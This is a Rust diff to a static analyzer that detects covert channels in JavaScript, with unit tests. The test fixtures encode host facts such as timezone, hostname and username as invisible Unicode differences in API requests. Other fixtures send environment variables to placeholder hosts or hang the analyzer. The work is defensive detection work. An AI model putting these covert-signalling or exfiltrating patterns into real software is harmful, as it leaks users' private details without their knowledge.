@@ -3,10 +3,30 @@
 use assay_model::{Confidence, Role, Severity};
 
 use super::Facts;
-use crate::evaluate::Shown;
+use crate::evaluate::{At, Shown};
 use crate::ir::{NONE, Op, V};
 use crate::js::Slices;
 use crate::raw::{Place, one_line};
+
+/// What is done with texts and lists.
+const TEXT: &[&str] = &[
+    "endsWith",
+    "includes",
+    "indexOf",
+    "join",
+    "length",
+    "map",
+    "match",
+    "replace",
+    "slice",
+    "some",
+    "split",
+    "startsWith",
+    "toLowerCase",
+    "toString",
+    "toUpperCase",
+    "trim",
+];
 
 /// The behaviour that asking for a fact is, and what it is in words.
 fn named(fact: &str) -> (&'static str, String) {
@@ -70,7 +90,7 @@ impl Facts<'_, '_, '_> {
     fn shown_by_trial(&mut self, shown: &Shown, known: &[(&str, String)], ids: &str) {
         let words: Vec<&str> = known.iter().map(|(_, words)| words.as_str()).collect();
         let words = words.join(", ");
-        let sink = self.at(shown.at);
+        let sink = self.call_of(&shown.sink, shown.at);
         let mut path = Vec::new();
         for (read, (id, words)) in shown.reads.iter().zip(known) {
             let note = if id.is_empty() {
@@ -78,7 +98,7 @@ impl Facts<'_, '_, '_> {
             } else {
                 format!("{id}: {words}")
             };
-            path.push(self.step(Role::Source, self.at(*read), note));
+            path.push(self.step(Role::Source, self.whole(self.at(*read)), note));
         }
         for (key, base, value) in &shown.facts {
             let (_, words) = named(key);
@@ -136,8 +156,58 @@ impl Facts<'_, '_, '_> {
         );
     }
 
+    /// The call by which something left. The interpreter tells a place in it,
+    /// which may be one of its arguments.
+    fn call_of(&self, name: &str, at: At) -> V {
+        let inner = self.at(at);
+        let (from, to) = self.ir.span(inner);
+        let last = name.trim_end_matches(['(', ')', '=']).rsplit('.').next();
+        let last = last.unwrap_or_default();
+        let mut best = (u32::MAX, inner);
+        for (index, op) in self.ir.ops.iter().enumerate() {
+            let (Op::Call { callee, .. } | Op::New { callee, .. }) = op else {
+                continue;
+            };
+            let value = super::id_of(index);
+            let (start, end) = self.ir.span(value);
+            let (_, named) = self.ir.span(*callee);
+            let callee = self.ir.text.get(start as usize..named as usize);
+            if start <= from
+                && to <= end
+                && end.saturating_sub(start) < best.0
+                && callee.is_some_and(|callee| callee.ends_with(last))
+            {
+                best = (end.saturating_sub(start), value);
+            }
+        }
+        best.1
+    }
+
+    /// The whole of what is read, from its beginning on: the interpreter tells
+    /// a place on the way.
+    fn whole(&self, value: V) -> V {
+        let mut at = value;
+        for _ in 0..3 {
+            let user = self.ir.user(at);
+            let same = user != NONE && self.ir.span(user).0 == self.ir.span(at).0;
+            match self.ir.op(user) {
+                Op::Call { callee, .. } if same && callee == at => at = user,
+                Op::Member { object, name } if same && object == at => {
+                    // What follows is done with the text.
+                    let name = self.ir.names.get(name);
+                    if TEXT.contains(&name) {
+                        break;
+                    }
+                    at = user;
+                }
+                _ => break,
+            }
+        }
+        at
+    }
+
     /// The smallest value that a place of the text, by line and column, lies in.
-    fn at(&self, (line, column): (u32, u32)) -> V {
+    fn at(&self, (line, column): At) -> V {
         // The first line is the program's own.
         let before = (line as usize).saturating_sub(2);
         let start = self
@@ -168,5 +238,116 @@ impl Facts<'_, '_, '_> {
             }
         }
         best.1
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use assay_model::{Finding, Role};
+
+    fn channels(text: &str) -> Vec<Finding> {
+        let mut found = crate::analyze_source("tool.mjs", text);
+        found.retain(|finding| finding.behaviour == "covert.channel");
+        found
+    }
+
+    /// A choice that no flow can follow: through a table of functions that a
+    /// generator makes.
+    fn through(fact: &str, test: &str, one: &str, other: &str) -> String {
+        format!(
+            "import os from 'node:os';\nfunction* marks() {{ yield () => {one}; yield () => {other}; }}\n\
+             export async function ask(content) {{\n  const fact = {fact};\n  const mark = [...marks()][Number({test})]();\n\
+             return fetch('https://api.example.com/v1', {{ method: 'POST', body: JSON.stringify({{ system: mark, content }}) }});\n}}\n"
+        )
+    }
+
+    const ZONE: &str = "Intl.DateTimeFormat().resolvedOptions().timeZone";
+
+    #[test]
+    fn what_a_trial_shows_is_told_with_its_places() {
+        let text = through(
+            ZONE,
+            "fact === 'Asia/Chongqing'",
+            "'Don\\'t stop.'",
+            "'Don\\u2019t stop.'",
+        );
+        let found = channels(&text);
+        assert_eq!(found.len(), 1, "{found:#?}");
+        let evidence = &found[0].evidence[0];
+        let said = |role: Role| {
+            let step = evidence.path.iter().find(|step| step.role == role).unwrap();
+            let start = usize::try_from(step.span.start).unwrap();
+            let len = usize::try_from(step.span.len).unwrap();
+            &text[start..start + len]
+        };
+        assert_eq!(said(Role::Source), ZONE);
+        assert!(
+            said(Role::Sink).starts_with("fetch("),
+            "{}",
+            said(Role::Sink)
+        );
+    }
+
+    #[test]
+    fn facts_of_many_kinds_are_tried() {
+        for (fact, test) in [
+            ("os.hostname()", "fact.endsWith('.corp.example')"),
+            ("os.userInfo().username", "['zed', 'yan'].includes(fact)"),
+            (
+                "process.env.HTTPS_PROXY ?? ''",
+                "/relay\\.example/.test(fact)",
+            ),
+            ("new Date().getTimezoneOffset()", "fact === -480"),
+            ("navigator.language", "fact.startsWith('fa')"),
+        ] {
+            let text = through(fact, test, "'a b'", "'a\\u00a0b'");
+            assert_eq!(channels(&text).len(), 1, "{fact} {test}");
+        }
+    }
+
+    #[test]
+    fn what_is_open_is_no_channel() {
+        for (fact, test, one, other) in [
+            (ZONE, "false", "'a'", "'b'"),
+            (
+                ZONE,
+                "fact === 'Asia/Tokyo'",
+                "'Speak English.'",
+                "'Speak Japanese.'",
+            ),
+            ("process.argv[2]", "fact === 'x'", "'a b'", "'a\\u00a0b'"),
+        ] {
+            let text = through(fact, test, one, other);
+            assert_eq!(channels(&text), [], "{fact} {test}");
+        }
+        for body in [
+            "{ zone: Intl.DateTimeFormat().resolvedOptions().timeZone, host: os.hostname(), user: os.userInfo().username }",
+            "{ system: `Today is ${new Date().toLocaleDateString()}.`, at: Date.now() }",
+            "{ path: ['a', 'b'].join(process.platform === 'win32' ? '\\\\' : '/') }",
+        ] {
+            let text = format!(
+                "import os from 'node:os';\nexport const ask = () => fetch('https://api.example.com/v1', {{ method: 'POST', body: JSON.stringify({body}) }});\n"
+            );
+            assert_eq!(channels(&text), [], "{body}");
+        }
+    }
+
+    #[test]
+    fn trials_of_hostile_modules_end() {
+        for hostile in [
+            "for (;;);",
+            "const again = () => Promise.resolve().then(again); again();",
+            "setInterval(() => fetch('https://a.example', { body: process.env.TZ }), 1);",
+            "JSON.stringify = () => { throw 1 }; Array.prototype.push = () => { for (;;); };",
+            "Error.prepareStackTrace = () => { for (;;); }; fetch('https://a.example/' + process.env.TZ);",
+            "const deep = (n) => deep(n + 1); try { deep(0) } catch {} export default new Proxy({}, { ownKeys() { for (;;); } });",
+            "let s = process.env.TZ + 'x'; for (;;) s += s; fetch(s);",
+            "export default class { get a() { for (;;); } constructor() { return new Proxy(this, { get: (t, k) => new this.constructor() }) } }; fetch(process.env.TZ);",
+            "globalThis.fetch = undefined; Object.defineProperty(globalThis, 'Map', { get() { throw 1 } }); process.env.TZ;",
+        ] {
+            let _ = channels(&format!(
+                "{hostile}\nfetch(process.env.TZ, {{ method: 'POST' }});\n"
+            ));
+        }
     }
 }
